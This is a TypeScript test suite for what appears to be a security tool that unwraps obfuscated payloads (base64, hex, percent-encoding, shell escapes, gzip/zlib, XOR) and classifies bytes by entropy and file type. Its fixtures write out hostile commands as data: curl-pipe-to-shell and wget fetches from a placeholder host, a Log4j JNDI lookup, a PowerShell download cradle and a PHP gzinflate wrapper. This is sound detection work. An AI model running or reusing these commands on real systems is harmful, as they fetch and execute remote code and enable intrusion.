// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Log4j look-ups and shell variables
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { numbers } from '#codec/testing.ts'
import { elfOf } from '#machine/internet/elf.ts'
import { entropy, fileType, nature } from './content.ts'
import { layersOf } from './layers.ts'
import { masked } from './xor.ts'

const script = '#!/bin/sh\ncurl -s http://192.0.2.9/x.sh | sh\n'
const paths = (payload: string | Buffer) => layersOf(Buffer.from(payload as string, 'latin1')).map(({ path }) => path)
const innermost = (payload: string | Buffer) =>
  layersOf(typeof payload === 'string' ? Buffer.from(payload, 'latin1') : payload)
    .at(-1)
    ?.bytes.toString('latin1')
const base64 = (bytes: string | Buffer) => Buffer.from(bytes as string, 'latin1').toString('base64')
const noise = (length: number) => {
  const draw = numbers(7)
  return Buffer.from(Array.from({ length }, () => draw(256)))
}

test('undoes what payloads are wrapped in', () => {
  const wide = Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')`, 'utf16le')
  const table: [payload: string | Buffer, path: string, inside: string][] = [
    [`echo ${base64(script)} | base64 -d | sh`, 'base64', script],
    [`{"x":"${Buffer.from(script).toString('base64url')}"}`, 'base64', script],
    [`\${jndi:ldap://192.0.2.9:1389/TomcatBypass/Command/Base64/${base64(script)}}`, 'base64', script],
    [`echo ${Buffer.from(script).toString('hex')} | xxd -r -p`, 'hex', script],
    [
      'GET /?a=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D HTTP/1.1',
      'percent',
      'GET /?a=${jndi:ldap://192.0.2.9/a} HTTP/1.1',
    ],
    [`sh -c $'\\x77\\x67\\x65\\x74 192.0.2.9'`, 'escapes', `sh -c $'wget 192.0.2.9'`],
    [`echo -e '\\0167\\0147\\0145\\0164'`, 'escapes', `echo -e 'wget'`],
    [`powershell -enc ${wide.toString('base64')}`, 'base64 > utf-16', wide.toString('utf16le')],
    [Buffer.concat([Buffer.from('POST / HTTP/1.1\r\n\r\n'), gzipSync(script)]), 'gzip', script],
    [deflateSync(script), 'zlib', script],
    [
      `a(gzinflate(base64_decode('${deflateRawSync(script.repeat(4)).toString('base64')}')))`,
      'base64 > deflate',
      script.repeat(4),
    ],
    [`echo ${gzipSync(`echo ${base64(script)}|sh`).toString('base64')}|sh`, 'base64 > gzip > base64', script],
    [masked(Buffer.from(script.repeat(2)), Buffer.of(0x5a)), 'xor 5a', script.repeat(2)],
    [
      masked(Buffer.from(`${script}exec /bin/sh -c "wget http://192.0.2.9/y" and the rest of it`), Buffer.from('k7')),
      'xor 6b37',
      `${script}exec /bin/sh -c "wget http://192.0.2.9/y" and the rest of it`,
    ],
  ]
  for (const [payload, path, inside] of table) {
    const layers = layersOf(typeof payload === 'string' ? Buffer.from(payload, 'latin1') : payload)
    const found = layers.find(layer => layer.path === path)
    assert.equal(found?.bytes.toString('latin1'), inside, `${path} among ${layers.map(layer => layer.path)}`)
  }
})

test('finds programs under a mask of up to eight bytes', () => {
  const program = elfOf(undefined, Buffer.from(noise(400)))
  for (const key of ['a', 'ab', 'abc', '\x00\x99', 'secret', '12345678']) {
    const layers = layersOf(masked(program, Buffer.from(key, 'latin1')))
    assert.deepEqual(layers.at(-1)?.bytes, program, key)
  }
  const dos = Buffer.alloc(400)
  dos.write('MZ', 0)
  dos.writeUInt32LE(0x80, 60)
  dos.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e)
  dos.write('PE\0\0', 0x80)
  assert.deepEqual(layersOf(masked(dos, Buffer.from('key')))[0]?.bytes, dos)
})

test('takes nothing for wrapped that is not', () => {
  assert.deepEqual(paths('GET /usr/local/lib/python3/dist-packages/something/long/enough HTTP/1.1'), [])
  assert.deepEqual(paths('The quick brown fox jumps over the lazy dog and http://www.example/ too'), [])
  assert.deepEqual(paths('0123456789abcdef0123456789abcdef0123456789abcdef'), [])
  assert.deepEqual(layersOf(noise(4000)), [])
  assert.deepEqual(layersOf(Buffer.alloc(4000)), [])
  assert.deepEqual(layersOf(elfOf(undefined, noise(4000))), [])
})

test('is bounded in depth, number and bytes', () => {
  let deep = script
  for (let i = 0; i < 8; i++) deep = base64(deep)
  assert.equal(layersOf(Buffer.from(deep)).length, 4)
  const bomb = gzipSync(Buffer.alloc(50 << 20))
  assert.deepEqual(layersOf(bomb), [])
  const many = Array.from({ length: 200 }, (_, i) => base64(`echo number ${i} of many lines`)).join(' ')
  assert.ok(layersOf(Buffer.from(many)).length <= 24)
  const mild = gzipSync(Buffer.from('0123456789abcdefghij klmnopqrstuvwxyz\n'.repeat(30_000)))
  const total = layersOf(mild).reduce((sum, { bytes }) => sum + bytes.length, 0)
  assert.ok(total <= 1 << 20, `${total}`)
})

test('hostile bytes neither throw nor hang', () => {
  const draw = numbers(11)
  const seeds = [
    gzipSync(script),
    deflateSync(script),
    Buffer.from(base64(script)),
    Buffer.from('%41%42%43\\x41\\x42'),
    elfOf(undefined, noise(400)),
  ]
  for (let n = 0; n < 3000; n++) {
    const bytes = Buffer.from(seeds[draw(seeds.length)]!)
    for (let flips = draw(8); flips >= 0; flips--) bytes[draw(bytes.length)]! ^= 1 << draw(8)
    layersOf(draw(2) ? bytes : Buffer.concat([bytes, Buffer.alloc(draw(3000), draw(256))]))
  }
  for (const piece of ['\\x4', '%4', 'A', 'AAAA\n', '\x1f\x8b\x08', '\\0', 'a\0'])
    layersOf(Buffer.from(piece.repeat(100_000), 'latin1'))
})

test('entropy, nature and type of bytes', () => {
  assert.equal(entropy(Buffer.alloc(100)), 0)
  assert.equal(entropy(Buffer.alloc(0)), 0)
  assert.equal(entropy(Buffer.from(Array.from({ length: 256 }, (_, i) => i))), 8)
  assert.equal(entropy(Buffer.from('abababab')), 1)
  assert.deepEqual(
    [nature(Buffer.from(script)), nature(noise(500)), nature(Buffer.from(`some text${'\0'.repeat(2)}`))],
    ['text', 'binary', 'mixed'],
  )
  const types: [string, string | undefined][] = [
    ['\x7fELF\x02\x01', 'elf'],
    ['#!/bin/sh\n', 'script'],
    ['PK\x03\x04', 'zip'],
    [`MZ${'\0'.repeat(58)}\x40\0\0\0PE\0\0`, 'pe'],
    ['MZ is how this text begins', undefined],
    ['plain', undefined],
  ]
  for (const [bytes, type] of types) assert.equal(fileType(Buffer.from(bytes, 'latin1')), type, JSON.stringify(bytes))
  assert.equal(innermost('nothing inside'), undefined)
})
